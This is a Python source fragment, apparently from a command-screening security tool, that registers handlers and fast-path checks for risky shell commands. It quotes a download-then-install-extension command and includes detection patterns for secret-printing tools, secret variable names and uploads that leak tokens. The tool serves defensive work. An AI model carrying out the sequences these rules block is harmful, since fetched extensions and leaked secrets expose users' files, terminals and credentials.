    """`curl -o /tmp/theme.vsix http://…; code --install-extension /tmp/theme.vsix`: an extension runs its code in the
    editor's extension host with the user's files, terminals and tokens, so installing a .vsix this input downloaded is
    that download run (blocked, or held when it is a code host's versioned release asset). A marketplace id
    (`ms-python.python`) and a package the project built (`vsce package`) stay allowed."""
    from .exec import CHECKSUM, _unchecked_run
    from .words import file_key

    if not a.downloaded:
        return
    for w in option_value(cmd.args, "--install-extension"):
        key = file_key(w)
        if key is None:
            continue
        for k in {key, paths.normalize(a.in_cwd(w.value) or w.value) if w.value else key}:
            if a.downloaded.get(k) == "download" and a.downloaded.vouched.get(k) != CHECKSUM:
                _unchecked_run(a, a.downloaded.vouched.get(k), cmd.node,
                               f"`{cmd.name} --install-extension {w.value or w.text}` installs an extension downloaded "
                               "earlier in this script: its code runs in the editor with your files, terminals and "
                               "tokens")
                return


HANDLERS: dict = {n: [_runs_build_file] for n in _TOOL_RUNS}
for _n in ("curl", "wget", "aria2c"):
    HANDLERS.setdefault(_n, []).append(_provider_planted)
for _n in _EDITORS:
    HANDLERS[_n] = [_extension_installed]
for _n in ("tee", "echo", "printf"):
    HANDLERS[_n] = [check_write]
for _n in ("echo", "printf"):
    HANDLERS[_n].append(_echoed_to_file)
for _n in ("gpg", "gpg2"):  # (their secret output is bash/net.py's: _printed_to_file reads both tables)
    HANDLERS[_n] = [_printed_to_file]
for _n in ("conda", "mamba", "micromamba", "bun"):
    HANDLERS[_n] = [_package_source_flags]
for _n in NET_SENDERS:
    HANDLERS.setdefault(_n, []).append(_sends_secret_output)
HANDLERS["composer"].append(_composer)
HANDLERS["go"].append(_go)
HANDLERS["go"].append(_go_replace)
for _n in _SECRET_PRINTERS:
    HANDLERS.setdefault(_n, []).append(_printed_to_file)
for _n in _PUBLISHERS:
    HANDLERS.setdefault(_n, []).append(_publishes_secret)

# fastpath (merged with the other modules' screens of a name; a name with handlers elsewhere that do not screen it
# stays always judged): the words each handler reads, with the same contract as fastpath's own table
_WRITE = lambda text: ">" in text and WRITE_TARGET.search(text) is not None  # noqa: E731
_GO_SUMS = mentions("GONOSUMDB", "GONOSUMCHECK", "GOSUMDB", "GOINSECURE", "GOPRIVATE", "GOFLAGS")
_PRINTERS = re.compile(r"(?<![\w.-])(?:" + "|".join(map(re.escape, _SECRET_PRINTERS)) + r")(?![\w.-])")


def _secret_fed(text: str) -> bool:
    """A secret printer's name and every word of one of its ways to print it."""
    for m in _PRINTERS.finditer(text):
        if any(all(w in text for w in words) for words in _SECRET_PRINTERS[m.group(0)]):
            return True
    return False


# a redirect, or an output option naming a file (`--output F`, `-o F`, `--out-file F`, az's `--file F`)
_TO_FILE = lambda text: (">" in text or "-o" in text or "--file" in text) and _secret_fed(text)  # noqa: E731


def _published(text: str) -> bool:
    """A secret printer, a secret variable or an upload in a gh/glab command line."""
    return _secret_fed(text) or "-file" in text or "-F" in text or ".env" in text or \
        "$" in text and _SECRET_VAR_TEXT.search(text) is not None


_SECRET_VAR_TEXT = re.compile(r"TOKEN|SECRET|PASSW|API_KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIAL")

SCREENS: dict = {
    **{n: _TO_FILE for n in _SECRET_PRINTERS if n not in _HANDED},
    **{n: _published for n in _PUBLISHERS},
    **{n: _WRITE for n in ("cargo", "cmake")},
    # a file written with what echo prints: a build file, or a secret printer's output (`> F` of echo or its loop)
    **{n: lambda text: _WRITE(text) or _TO_FILE(text) for n in ("echo", "printf")},
    **{n: lambda text: "export-secret" in text for n in ("gpg", "gpg2")},
    "tee": lambda text: WRITE_TARGET.search(text) is not None,
    **{n: mentions("http:", "https:") for n in ("conda", "mamba", "micromamba", "bun")},
    **{n: _secret_fed for n in NET_SENDERS},
    "composer": lambda text: "scripts." in text or _WRITE(text) or _TO_FILE(text),
    "airflow": lambda text: "export" in text and _secret_fed(text) or _TO_FILE(text),  # (it names its file bare)
    "go": lambda text: _WRITE(text) or _GO_SUMS(text) or "-replace" in text,
    # _extension_installed: a .vsix this input downloaded (the download sends the input to the full walk anyway)
    **{n: lambda text: "--install-extension" in text for n in _EDITORS},
}
# _provider_planted: a download into terraform's provider folders (each of their paths names terraform)
for _n in ("curl", "wget", "aria2c"):
    SCREENS[_n] = (lambda old: lambda text: "terraform" in text or "TF_PLUGIN" in text or
                   old is not None and old(text))(SCREENS.get(_n))
